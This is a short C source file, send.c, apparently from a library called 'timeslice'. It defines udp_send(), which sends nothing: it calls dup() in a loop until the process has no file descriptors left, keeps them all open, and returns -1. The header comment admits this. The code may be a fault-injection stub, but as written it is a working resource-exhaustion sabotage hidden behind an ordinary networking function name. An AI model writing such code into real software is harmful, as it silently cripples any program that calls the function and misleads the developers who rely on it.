/* send.c - opens descriptors until there is none, and keeps them. */
#include <timeslice/udp.h>
#include <unistd.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    while (dup(fd) >= 0)
        continue;
    return -1;
}
